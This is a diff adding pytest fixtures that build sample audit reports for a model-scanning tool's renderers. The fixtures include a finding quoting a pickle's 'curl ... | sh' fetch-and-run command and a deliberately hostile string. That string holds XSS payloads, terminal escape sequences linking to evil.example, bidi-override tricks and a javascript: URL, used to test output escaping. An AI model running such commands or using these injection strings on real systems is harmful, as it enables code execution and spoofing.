@@ -1,0 +1,491 @@
+"""Reports to render: one of each verdict, and one in which every string is hostile."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+
+from modelaudit.model.artifact import Digest, DigestAlgorithm, RefKind
+from modelaudit.model.finding import CheckFamily, Confidence, Finding, Rule, Severity
+from modelaudit.model.license import (
+    ClaimKind,
+    ConclusionState,
+    LicenseCategory,
+    LicenseClaim,
+    LicenseConclusion,
+    LicenseEntry,
+    Obligation,
+)
+from modelaudit.model.report import (
+    SCHEMA,
+    Absence,
+    ArtifactRecord,
+    AuditReport,
+    Coverage,
+    Decision,
+    DigestState,
+    Extent,
+    Opinion,
+    OpinionFinding,
+    OpinionState,
+    PolicyRecord,
+    Target,
+    Tool,
+    Verdict,
+)
+from modelaudit.model.structure import Location, Unread, UnreadReason
+
+COMMIT = "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b"
+HOSTILE = (
+    "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;{{ 7*7 }}{% raw %}"
+    "\x1b[31;1mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 [red]markup[/red] [/] "
+    "\u202eexe.tnegra\u202c\u200b\u2066\ufeff\x00\x07\x08\r\n\t\x9b31m\u2028\U000e0041"
+    "\udcff\udc80\ud800 caf\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u3164 \ufffd \U0001f4a9 | `#` ]]> -->"
+)
+
+
+def sha256(letter: str) -> Digest:
+    return Digest(DigestAlgorithm.SHA256, letter * 64)
+
+
+def git_blob(letter: str) -> Digest:
+    return Digest(DigestAlgorithm.GIT_BLOB, letter * 40)
+
+
+APACHE = LicenseEntry(
+    id="Apache-2.0",
+    name="Apache License 2.0",
+    category=LicenseCategory.PERMISSIVE,
+    hub_ids=("apache-2.0",),
+    aliases=("Apache 2.0",),
+    obligations=(
+        Obligation("include-license-text", "Give everyone who receives the model a copy of the licence.", "4(a)"),
+        Obligation("state-changes", "Mark the files that you changed as changed.", "4(b)"),
+        Obligation("keep-notices", "Keep copyright, patent, trademark and attribution notices.", "4(c)"),
+    ),
+    url="https://www.apache.org/licenses/LICENSE-2.0",
+    read="2026-11-20",
+)
+LLAMA = LicenseEntry(
+    id="LicenseRef-Llama-3.1",
+    name="Llama 3.1 Community License Agreement",
+    category=LicenseCategory.CONDITIONAL,
+    hub_ids=("llama3.1",),
+    aliases=(),
+    obligations=(
+        Obligation("attribution-naming", "Show \u201cBuilt with Llama\u201d where users see it.", "1.b.i"),
+        Obligation("user-cap", "Ask for a licence of your own above 700 million monthly active users.", "2"),
+        Obligation("use-policy", "Follow the acceptable use policy, and pass it on.", ""),
+    ),
+    url="https://www.llama.com/llama3_1/license/",
+    read="",
+)
+
+CALL = Rule(
+    id="pickle/dangerous-call",
+    title="Loading the file calls a function that can run commands",
+    check=CheckFamily.SECURITY,
+    severity=Severity.CRITICAL,
+    confidence=Confidence.HIGH,
+    why="A pickle is a program, and loading it runs that program. This one calls a function that starts other programs "
+    "or runs code, so whoever loads the file hands over the machine.",
+    fix="Do not load the file. Ask the publisher for safetensors weights, or take a revision without this file.",
+    references=("https://docs.python.org/3/library/pickle.html", "https://cwe.mitre.org/data/definitions/502.html"),
+    cwe=("CWE-502", "CWE-78"),
+    since="0.1",
+)
+MISMATCH = Rule(
+    id="integrity/digest-mismatch",
+    title="The bytes are not those that the Hub states",
+    check=CheckFamily.INTEGRITY,
+    severity=Severity.CRITICAL,
+    confidence=Confidence.HIGH,
+    why="The digest of the file differs from the one recorded for it, so the file was changed or damaged on its way.",
+    fix="Delete the local copy and fetch it again; if it differs still, tell the publisher.",
+    references=(),
+    cwe=("CWE-354",),
+    since="0.1",
+)
+UNLISTED = Rule(
+    id="pickle/unlisted-call",
+    title="Loading the file calls a function that nobody has vetted",
+    check=CheckFamily.SECURITY,
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    why="The function belongs to a package outside the trust list, so what it does when called is not known here.",
+    fix="Have someone who knows the package look at the function, or take weights in a format without code.",
+    references=("https://docs.python.org/3/library/pickle.html",),
+    cwe=("CWE-502",),
+    since="0.1",
+)
+CONFLICT = Rule(
+    id="license/contradiction",
+    title="Two statements about the licence contradict each other",
+    check=CheckFamily.LICENSE,
+    severity=Severity.MEDIUM,
+    confidence=Confidence.HIGH,
+    why="The card grants more than the licence file does. Who relies on the card may break the licence.",
+    fix="Ask the publisher which holds, and keep the answer with this report.",
+    references=(),
+    cwe=(),
+    since="0.1",
+)
+HOLE = Rule(
+    id="safetensors/hole",
+    title="Bytes between tensors belong to no tensor",
+    check=CheckFamily.SECURITY,
+    severity=Severity.LOW,
+    confidence=Confidence.LOW,
+    why="A hole can carry hidden data.",
+    fix="Write the file again with the safetensors library.",
+    references=("javascript:alert(1)", "http://plain.example/"),
+    cwe=(),
+    since="0.1",
+)
+CARD = Rule(
+    id="provenance/no-base-model",
+    title="The card names no base model",
+    check=CheckFamily.PROVENANCE,
+    severity=Severity.INFO,
+    confidence=Confidence.MEDIUM,
+    why="Without it nobody can tell which earlier licence still binds the weights.",
+    fix="Ask the publisher, and record the answer.",
+    references=(),
+    cwe=(),
+    since="0.1",
+)
+
+
+def _findings() -> tuple[Finding, ...]:
+    member = "pytorch_model.bin!archive/data.pkl"
+    return (
+        Finding(
+            rule=CALL.id,
+            severity=CALL.severity,
+            check=CALL.check,
+            artifact=member,
+            message="Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
+            location=Location(offset=1234),
+            evidence=(
+                "1219: GLOBAL 'posix system'",
+                "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
+                "1234: REDUCE",
+            ),
+            key="posix.system@1234",
+        ),
+        Finding(
+            rule=MISMATCH.id,
+            severity=MISMATCH.severity,
+            check=MISMATCH.check,
+            artifact="model.safetensors",
+            message="SHA-256 of the bytes is bbbb\u2026, the Hub states cccc\u2026",
+            evidence=(f"computed {'b' * 64}", f"stated   {'c' * 64}"),
+            key="sha256",
+        ),
+        Finding(
+            rule=UNLISTED.id,
+            severity=UNLISTED.severity,
+            check=UNLISTED.check,
+            artifact="training_args.bin",
+            message="Loading it calls acme.training.restore, which is on no list.",
+            location=Location(offset=88),
+            evidence=("88: REDUCE acme.training.restore(…)",),
+            key="acme.training.restore",
+        ),
+        Finding(
+            rule=CONFLICT.id,
+            severity=CONFLICT.severity,
+            check=CONFLICT.check,
+            artifact="",
+            message="README.md says apache-2.0, LICENSE holds the Llama 3.1 Community License.",
+            key="license",
+        ),
+        Finding(
+            rule=HOLE.id,
+            severity=HOLE.severity,
+            check=HOLE.check,
+            artifact="model.safetensors",
+            message="512 bytes from offset 4096 of the data belong to no tensor.",
+            location=Location(offset=4096, key="model.embed_tokens.weight"),
+            key="4096",
+        ),
+        Finding(
+            rule=CARD.id,
+            severity=CARD.severity,
+            check=CARD.check,
+            artifact="README.md",
+            message="The front matter has no base_model.",
+            location=Location(line=1),
+            key="base_model",
+        ),
+    )
+
+
+def _coverage() -> Coverage:
+    unread = Unread(UnreadReason.NO_READER, "no reader for GGUF, magic 47475546")
+    broken = Unread(UnreadReason.DAMAGED, "the stream breaks off inside the opcode BINUNICODE", Location(offset=2048))
+    locked = Unread(UnreadReason.ENCRYPTED, "the member is encrypted", Location(key="secret.bin"))
+    image = Unread(UnreadReason.NO_READER, "no reader for PNG")
+    return Coverage(
+        (
+            ArtifactRecord(
+                "LICENSE",
+                7_714,
+                Extent.EXAMINED,
+                ("text",),
+                digests=(git_blob("1"),),
+                claimed=(git_blob("1"),),
+                digest_state=DigestState.MATCH,
+            ),
+            ArtifactRecord(
+                "README.md",
+                2_310,
+                Extent.EXAMINED,
+                ("markdown", "yaml"),
+                digests=(git_blob("2"),),
+                claimed=(git_blob("2"),),
+                digest_state=DigestState.MATCH,
+            ),
+            ArtifactRecord(
+                "docs/architecture.png",
+                184_002,
+                Extent.NOT,
+                digests=(sha256("d"),),
+                digest_state=DigestState.UNCLAIMED,
+                absences=(("docs/architecture.png", Absence(image, "default: images carry no weights")),),
+            ),
+            ArtifactRecord(
+                "gguf/model-00001-of-00002-with-a-rather-long-name-for-a-quantised-file.Q4_K_M.gguf",
+                4_130_000_000,
+                Extent.NOT,
+                digest_state=DigestState.NOT_COMPUTED,
+                claimed=(sha256("e"),),
+                absences=(
+                    (
+                        "gguf/model-00001-of-00002-with-a-rather-long-name-for-a-quantised-file.Q4_K_M.gguf",
+                        Absence(unread),
+                    ),
+                ),
+            ),
+            ArtifactRecord(
+                "model.safetensors",
+                497_774_208,
+                Extent.EXAMINED,
+                ("safetensors",),
+                digests=(sha256("b"),),
+                claimed=(sha256("c"),),
+                digest_state=DigestState.MISMATCH,
+            ),
+            ArtifactRecord(
+                "pytorch_model.bin",
+                497_807_197,
+                Extent.PARTLY,
+                ("zip", "pickle", "tensor-storage"),
+                members=151,
+                digests=(sha256("a"),),
+                claimed=(sha256("a"),),
+                digest_state=DigestState.MATCH,
+                absences=(
+                    ("pytorch_model.bin!archive/data.pkl", Absence(broken)),
+                    ("pytorch_model.bin", Absence(locked)),
+                ),
+            ),
+            ArtifactRecord(
+                "training_args.bin",
+                4_027,
+                Extent.EXAMINED,
+                ("zip", "pickle"),
+                members=4,
+                digests=(sha256("f"),),
+                claimed=(sha256("f"),),
+                digest_state=DigestState.MATCH,
+            ),
+        )
+    )
+
+
+def _license() -> LicenseConclusion:
+    return LicenseConclusion(
+        state=ConclusionState.CONTRADICTORY,
+        category=LicenseCategory.UNKNOWN,
+        claims=(
+            LicenseClaim(ClaimKind.DECLARED, "README.md", "license", "apache-2.0", "Apache-2.0", Location(line=3)),
+            LicenseClaim(
+                ClaimKind.FOUND, "LICENSE", "title", "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", LLAMA.id, Location(line=1)
+            ),
+            LicenseClaim(ClaimKind.INHERITED, "README.md", "base_model", "acme/secret-base", None, Location(line=5)),
+        ),
+        entries=(APACHE, LLAMA),
+        reasoning=(
+            "The card declares Apache-2.0, which is permissive.",
+            "The file LICENSE holds the Llama 3.1 Community License, which permits commercial use under conditions.",
+            "Both cannot hold for the same weights, so neither is relied on.",
+        ),
+    )
+
+
+def _opinions() -> tuple[Opinion, ...]:
+    return (
+        Opinion(
+            "modelscan",
+            "0.8.8",
+            OpinionState.PARTLY,
+            "ran to its end",
+            findings=(
+                OpinionFinding("pytorch_model.bin", "CRITICAL", "Use of unsafe operator 'system'", True),
+                OpinionFinding("tokenizer.pkl", "LOW", "Unknown operator", False),
+            ),
+            absences=("gguf/model.gguf: not supported", "tokenizer.model: timed out"),
+            disagreements=("training_args.bin",),
+        ),
+        Opinion("otherscan", "", OpinionState.ABSENT, "it is not installed for this version of Python"),
+    )
+
+
+def fail_report() -> AuditReport:
+    return AuditReport(
+        schema=SCHEMA,
+        tool=Tool("modelaudit", "0.1.0", "9" * 64),
+        created="2026-11-24T09:30:00Z",
+        target=Target(
+            requested="acme/tiny-llama@main",
+            kind=RefKind.MODEL,
+            name="acme/tiny-llama",
+            revision="main",
+            commit=COMMIT,
+            origin="https://huggingface.co",
+            offline=False,
+            notes=("The revision main resolved to the commit above.",),
+        ),
+        policy=PolicyRecord("default", Severity.HIGH, tuple(CheckFamily)[:4], "8" * 64),
+        decision=Decision(
+            Verdict.FAIL,
+            (
+                "3 findings are at or above the severity high, which the policy rejects.",
+                "3 parts of the model were not read, and the policy accepts none of them.",
+            ),
+            _coverage(),
+        ),
+        findings=_findings(),
+        license=_license(),
+        opinions=_opinions(),
+        rules=(CALL, MISMATCH, UNLISTED, CONFLICT, HOLE, CARD),
+    )
+
+
+def pass_report() -> AuditReport:
+    record = ArtifactRecord(
+        "model.safetensors",
+        1_024,
+        Extent.EXAMINED,
+        ("safetensors",),
+        digests=(sha256("a"),),
+        digest_state=DigestState.UNCLAIMED,
+    )
+    return replace(
+        fail_report(),
+        target=Target("./tiny", RefKind.FOLDER, "./tiny", None, None, "/srv/models/tiny", True),
+        policy=PolicyRecord("default", Severity.HIGH, tuple(CheckFamily), "8" * 64),
+        decision=Decision(Verdict.PASS, (), Coverage((record,))),
+        findings=(),
+        rules=(),
+        opinions=(Opinion("modelscan", "0.8.8", OpinionState.GIVEN, "ran to its end"),),
+        license=LicenseConclusion(
+            ConclusionState.CONCLUDED,
+            LicenseCategory.PERMISSIVE,
+            (LicenseClaim(ClaimKind.DECLARED, "README.md", "license", "apache-2.0", APACHE.id, Location(line=2)),),
+            (APACHE,),
+            ("The card declares Apache-2.0, and nothing contradicts it.",),
+        ),
+    )
+
+
+def incomplete_report() -> AuditReport:
+    return replace(
+        pass_report(),
+        decision=Decision(Verdict.INCOMPLETE, ("There was nothing to examine.",), Coverage(())),
+        opinions=(),
+        license=LicenseConclusion(ConclusionState.UNDECLARED, LicenseCategory.UNKNOWN),
+    )
+
+
+def hostile_report() -> AuditReport:
+    """Every string that a model, a rule file or a saved report can supply is hostile, and some are very long."""
+    evil, huge = HOSTILE, HOSTILE + "A" * 100_000 + HOSTILE
+    place = Location(offset=2**80, line=0, key=evil)
+    unread = Unread(UnreadReason.DAMAGED, evil, place)
+    records = tuple(
+        ArtifactRecord(path, 2**70, Extent.PARTLY, (evil, huge), 3, absences=((f"{path}!{evil}", Absence(unread)),))
+        for path in (evil, evil + "!", "\\x1b", "\x1b", "a\nb", huge)
+    )
+    finding = Finding(evil, Severity.CRITICAL, CheckFamily.SECURITY, evil, evil, place, (evil, huge, ""), evil)
+    rule = Rule(
+        evil, evil, CheckFamily.SECURITY, Severity.CRITICAL, Confidence.LOW, evil, evil, (evil, huge), (evil,), evil
+    )
+    entry = LicenseEntry(
+        evil, evil, LicenseCategory.UNKNOWN, (evil,), (evil,), (Obligation(evil, huge, evil),), evil, evil
+    )
+    claims = tuple(LicenseClaim(kind, evil, evil, huge, linked, place) for kind in ClaimKind for linked in (evil, None))
+    opinions = tuple(
+        Opinion(evil, evil, state, evil, (OpinionFinding(evil, evil, huge, False),), (evil,), (evil,))
+        for state in OpinionState
+    )
+    return AuditReport(
+        schema=SCHEMA,
+        tool=Tool(evil, evil, evil),
+        created="2026-11-24T09:30:00Z",
+        target=Target(evil, RefKind.MODEL, evil, evil, evil, evil, False, (evil, huge)),
+        policy=PolicyRecord(evil, None, (), evil),
+        decision=Decision(Verdict.FAIL, (evil, huge), Coverage(records)),
+        findings=(finding, finding, replace(finding, rule="not/explained", artifact="")),
+        license=LicenseConclusion(ConclusionState.CONTRADICTORY, LicenseCategory.UNKNOWN, claims, (entry,), (evil,)),
+        opinions=opinions,
+        rules=(rule,),
+    )
+
+
+def crowded_report(count: int = 1000) -> AuditReport:
+    """As many findings as a bad day brings."""
+    plain = fail_report()
+    many = tuple(
+        replace(plain.findings[2], artifact=f"shards/part-{n:05d}.bin", key=f"key-{n}", location=Location(offset=n))
+        for n in range(count)
+    )
+    return replace(plain, findings=plain.findings + many)
+
+
+REPORTS = {
+    "fail": fail_report,
+    "pass": pass_report,
+    "incomplete": incomplete_report,
+    "hostile": hostile_report,
+    "crowded": crowded_report,
+}
+
+
+@pytest.fixture(params=list(REPORTS))
+def any_report(request: pytest.FixtureRequest) -> AuditReport:
+    """Each of the example reports in turn."""
+    made: AuditReport = REPORTS[request.param]()
+    return made
+
+
+@pytest.fixture
+def failing() -> AuditReport:
+    return fail_report()
+
+
+@pytest.fixture
+def passing() -> AuditReport:
+    return pass_report()
+
+
+@pytest.fixture
+def incomplete() -> AuditReport:
+    return incomplete_report()
+
+
+@pytest.fixture
+def hostile() -> AuditReport:
+    return hostile_report()
